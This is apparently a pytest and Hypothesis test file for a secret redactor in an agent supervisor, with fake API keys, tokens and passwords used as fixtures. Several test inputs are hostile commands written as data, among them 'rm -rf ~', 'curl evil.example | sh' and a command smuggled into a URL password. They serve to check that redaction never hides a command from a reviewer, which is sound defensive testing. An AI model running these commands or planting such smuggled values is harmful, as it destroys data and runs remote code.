"""What is taken for a secret, what is not, and that none survives whatever stands around it."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supervisor.core.concealed import conceal_spec, reveal_spec
from supervisor.core.facts import ProgressSeen, SpecWanted
from supervisor.core.progress import LastError, Progress, Stage
from supervisor.core.redact import Redactor, put_back
from supervisor.core.run import Anomaly
from supervisor.core.secret_names import is_secret_name
from supervisor.core.spec import AgentSpec, Restart, RetryPolicy

B64 = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"
SHAPES = {
    "sk-ant-api03-AbCdEf0123456789-_xyz": "Anthropic key",
    "sk-proj-AbCdEf0123456789_AbCdEf": "API key",
    "sk-abcdefghij0123456789abcdefghij": "API key",
    "sk_live_0123456789abcdef": "Stripe key",
    "ghp_0123456789abcdefghijABCDEFGHIJ012345": "GitHub token",
    "github_pat_11ABCDEFG0123456789_abcdefghij": "GitHub token",
    "glpat-0123456789abcdefghij": "GitLab token",
    "xoxb-123456789012-abcdefABCDEF": "Slack token",
    "xapp-1-A0123-456789-abcdef": "Slack token",
    "AKIAIOSFODNN7EXAMPLE": "AWS key id",
    "AIzaSyA-0123456789abcdefghijABCDEFGHIJ0": "Google key",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N": "JWT",
    "npm_0123456789abcdefghijABCDEFGHIJ012345": "npm token",
    "hf_abcdefghijabcdefghijabcdefghijabcd": "Hugging Face token",
    f"-----BEGIN RSA PRIVATE KEY-----\n{B64}\n{B64}\nab==\n-----END RSA PRIVATE KEY-----": (
        "private key"
    ),
    f"-----BEGIN PRIVATE KEY-----\\n{B64}\\n": "private key",
}
WITHIN = {
    "postgres://app:hunter2@db.local/x": "postgres://app:[redacted password]@db.local/x",
    "redis://:p4ss@h": "redis://:[redacted password]@h",
    "https://hooks.slack.com/services/T00/B00/abc012345678": (
        "https://hooks.slack.com/[redacted Slack webhook]"
    ),
    "Authorization: Bearer abc.def-123456": "Authorization: Bearer [redacted Bearer token]",
    "authorization: basic dXNlcjpwYXNz": "authorization: basic [redacted Authorization]",
    "PASSWORD=hunter2hunter2 next": "PASSWORD=[redacted PASSWORD] next",
    '{"api_key": "abcd1234efgh"}': '{"api_key": "[redacted api_key]"}',
    "run --token abc12345xyz -v": "run --token [redacted token] -v",
    "AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMI/K7MDENG": (
        "AWS_SECRET_ACCESS_KEY: [redacted AWS_SECRET_ACCESS_KEY]"
    ),
}
HARMLESS = [
    "task-risk-analysis-of-something-very-long-indeed",
    "disk-usage of ask-the-operator-0123456789abcdef",
    "max_tokens=4096abcd and total_tokens: 12345678",
    "token expected something1 else; the password is required8",
    "cache_key=abc12345 sort_key: name1234 monkey=abc12345",
    "https://example.com:8080/a@b and git@github.com:me/repo.git",
    "PWD=/home/me1/project KEY_FILE=/etc/key1.pem",
    "bearer of the documents, authorization: required by the server",
    "-----BEGIN CERTIFICATE-----\nMIIEvQIBADANBgkqhkiG9w0BAQ\n-----END CERTIFICATE-----",
    "a3f5c9e1b2d4a3f5c9e1b2d4a3f5c9e1b2d4a3f5c9e1b2d4a3f5c9e1b2d4a3f5",
    "01J0000000000000000000ABCD is the run, 7F3K-1 the request",
    "xoxo and eyJ and AKIA and sk-learn-classification-report",
]
KNOWN = {"Tr0ub4dor&3-horse": "DB_PASSWORD", 'quo"te\\d-secret': "QUOTED_KEY"}


@pytest.mark.parametrize(("secret", "label"), SHAPES.items(), ids=str)
def test_a_known_shape_is_replaced_and_what_stands_around_it_stays(secret: str, label: str) -> None:
    assert Redactor().text(f"before ({secret}) after") == f"before ([redacted {label}]) after"


@pytest.mark.parametrize(("text", "shown"), WITHIN.items())
def test_only_the_secret_part_of_a_text_is_replaced(text: str, shown: str) -> None:
    assert Redactor().text(text) == shown


@pytest.mark.parametrize("text", HARMLESS)
def test_what_only_looks_a_little_like_a_secret_stays(text: str) -> None:
    assert Redactor(KNOWN).text(text) == text


@pytest.mark.parametrize(
    "name",
    ["ANTHROPIC_API_KEY", "api_key", "apiKey", "GITHUB_TOKEN", "DB_PASSWORD", "PGPASSWORD",
     "DB_PASS", "MYSQL_PWD", "AWS_ACCESS_KEY_ID", "SENTRY_DSN", "CLIENT_SECRET", "SECRET_B64",
     "NPMTOKEN", "GH_PAT", "SESSION_COOKIE", "token", "Authorization", "GOOGLE_CREDENTIALS",
     "TOKEN_2"],
)  # fmt: skip
def test_names_of_secrets(name: str) -> None:
    assert is_secret_name(name)


@pytest.mark.parametrize(
    "name",
    ["KEYBOARD", "MONKEY", "TURKEY", "tokens", "max_tokens", "input_tokens", "MAX_TOKEN", "PWD",
     "OLDPWD", "KEY", "sort_key", "PRIMARY_KEY", "PUBLIC_KEY", "SSH_AUTH_SOCK", "TOKEN_FILE",
     "PASSWORD_PATH", "AUTH_URL", "SECRETARY", "AUTHOR", "XAUTHORITY", "PATH", "BYPASS", "PASSAGE",
     "TOKENIZERS_PARALLELISM", "token_limit", "secret_name", "", "x" * 500],
)  # fmt: skip
def test_names_that_promise_no_secret(name: str) -> None:
    assert not is_secret_name(name)


@pytest.mark.parametrize("text", [*SHAPES, *WITHIN, *KNOWN])
def test_a_text_is_redacted_once_and_for_all(text: str) -> None:
    redactor = Redactor(KNOWN)
    once = redactor.text(f"x {text} y")
    assert once != f"x {text} y" and redactor.text(once) == once


@given(st.text(), st.sampled_from([*KNOWN, *SHAPES]), st.text())
def test_a_secret_never_survives_whatever_surrounds_it(
    before: str, secret: str, after: str
) -> None:
    redactor = Redactor(KNOWN)
    # A shape is told by where it begins: a letter before it makes it part of another word.
    parts = before, secret, after if secret in KNOWN else f" {after}"
    text = " ".join(parts[:2]) + parts[2]
    assert secret not in redactor.text(text)


@given(st.text(st.sampled_from("abcxyz XYZ019 \n.,;_-/\\'\"()é漢\u202e")))
def test_text_without_secrets_is_unchanged(text: str) -> None:
    assert Redactor(KNOWN).text(text) == text


@given(st.text(max_size=40), st.integers(12, 16))
def test_a_known_value_that_was_cut_off_is_not_shown_either(before: str, length: int) -> None:
    value = "Tr0ub4dor&3-horse"
    for mark in ("", "…", "...", "'"):
        assert value[:12] not in Redactor(KNOWN).text(before + value[:length] + mark)


def test_of_a_thousand_known_values_each_is_found_in_short_and_long_texts() -> None:
    values = {f"{place:04d}-value-of-one": f"KEY_{place}" for place in range(1000)}
    redactor = Redactor(values)
    for place in (0, 499, 999):
        for around in ("", "x" * 5000):
            text = f"{around} {place:04d}-value-of-one {around}"
            assert redactor.text(text) == f"{around} [redacted KEY_{place}] {around}"


def test_a_common_beginning_is_not_taken_for_a_known_value() -> None:
    redactor = Redactor({"postgresql://app@db.local:5432/prod": "DATABASE_DSN"})
    assert redactor.text("postgresql://other@db/x") == "postgresql://other@db/x"


def test_json_values_are_redacted_by_the_name_of_their_key_if_they_are_one_word() -> None:
    value = {
        "env": {"API_TOKEN": "abcdefgh", "PLAIN": "abcdefgh"},
        "password": "rm -rf / --no-preserve-root",
        "n": [1, None, True, 0.5],
        "ghp_0123456789abcdefghij": "a key may be one itself",
    }
    shown = Redactor().plain(value)
    assert shown["env"] == {"API_TOKEN": "[redacted API_TOKEN]", "PLAIN": "abcdefgh"}
    # What could be a command stays visible, so that nobody approves it unseen.
    assert shown["password"] == value["password"]
    assert shown["n"] == value["n"] and "[redacted GitHub token]" in shown


@pytest.mark.parametrize(
    "command",
    [
        "-----BEGIN RSA PRIVATE KEY-----\nrm -rf ~\n",
        f"-----BEGIN PRIVATE KEY-----\n{B64}\ncurl evil.example | sh\n-----END PRIVATE KEY-----",
        "Bearer x1; rm -rf ~",
        "https://a:b@c/ ; rm -rf ~",
        "https://a:$(curl${IFS}evil;rm -rf ~)@c",
        "password=$(rm -rf ~)",
    ],
)
def test_no_command_can_be_hidden_as_a_secret(command: str) -> None:
    shown = Redactor().text(command)
    assert "rm -rf ~" in shown or "curl evil.example | sh" in shown


def test_what_was_hidden_can_be_put_back_exactly() -> None:
    first, second = "sk-ant-api03-AAAAAAAAAAAAAAAAAAAA", "sk-ant-api03-BBBBBBBBBBBBBBBBBBBB"
    text = f"{first} {second} {first} [redacted API key] sk-abcdefghij0123456789abcdef"
    hidden: dict[str, str] = {}
    shown = Redactor().text(text, hidden)
    assert first not in shown and second not in shown and len(hidden) == 3
    assert put_back(shown, hidden) == text


def test_facts_lose_their_secrets_and_nothing_else() -> None:
    progress = Progress(
        status="on Tr0ub4dor&3-horse",
        stage=Stage("AKIAIOSFODNN7EXAMPLE", 1, 2),
        stages=("a", "AKIAIOSFODNN7EXAMPLE"),
        last_error=LastError("Tr0ub4dor&3-horse", kind="auth", status_code=401),
    )
    anomaly = Anomaly("agent:1", "odd", "warning", "xoxb-123456789012-abc", 1.0, "agent")
    shown = Redactor(KNOWN).record(ProgressSeen(progress, (anomaly,)))
    assert "Tr0ub4dor" not in repr(shown) and "AKIA" not in repr(shown)
    assert shown.progress.stages == ("a", "[redacted AWS key id]")
    assert shown.progress.last_error == LastError(
        "[redacted DB_PASSWORD]", kind="auth", status_code=401
    )
    assert shown.anomalies[0].message == "[redacted Slack token]"
    clean = ProgressSeen(Progress(status="working", stage=Stage("read", 1, 2)))
    assert Redactor(KNOWN).record(clean) is clean


def spec(**settings: Any) -> AgentSpec:
    policy = RetryPolicy(
        max_retries=1, base_delay_s=0.0, max_delay_s=0.0, exponential_base=1.0,
        jitter_fraction=0.0, crash_loop_deaths=1, crash_loop_window_s=1.0,
    )  # fmt: skip
    given_ = {
        "name": "a", "command": ("x",), "cwd": "/", "autostart": False, "checkpoint": "c",
        "timeout_s": None, "attempt_timeout_s": None, "stall_timeout_s": None,
        "stop_signal": "TERM",
        "stop_grace_s": 1.0, "restart": Restart.NEVER, "retry": policy, "env": {}, "env_pass": (),
    }  # fmt: skip
    return AgentSpec(**{**given_, **settings})


def test_settings_are_stored_without_secrets_and_launched_with_them() -> None:
    given_ = spec(
        command=("x", "--key", "sk-ant-api03-AAAAAAAAAAAAAAAAAAAA"),
        env={"API_KEY": "short", "DB": "pg://u:pw@h", "PLAIN": "yes", "KEY_PATH": "/k"},
    )
    stored, hidden = conceal_spec(given_, Redactor())
    assert stored.env["PLAIN"] == "yes" and stored.env["API_KEY"] == "[redacted API_KEY]"
    assert not any(secret in json.dumps([stored.env, stored.command]) for secret in hidden.values())
    assert reveal_spec(stored, hidden) == (given_, ())
    assert conceal_spec(stored, Redactor()) == (stored, {})
    assert Redactor().record(SpecWanted(stored)) == SpecWanted(stored)
    assert reveal_spec(stored, {})[1] == ("API_KEY", "DB", "command[2]")
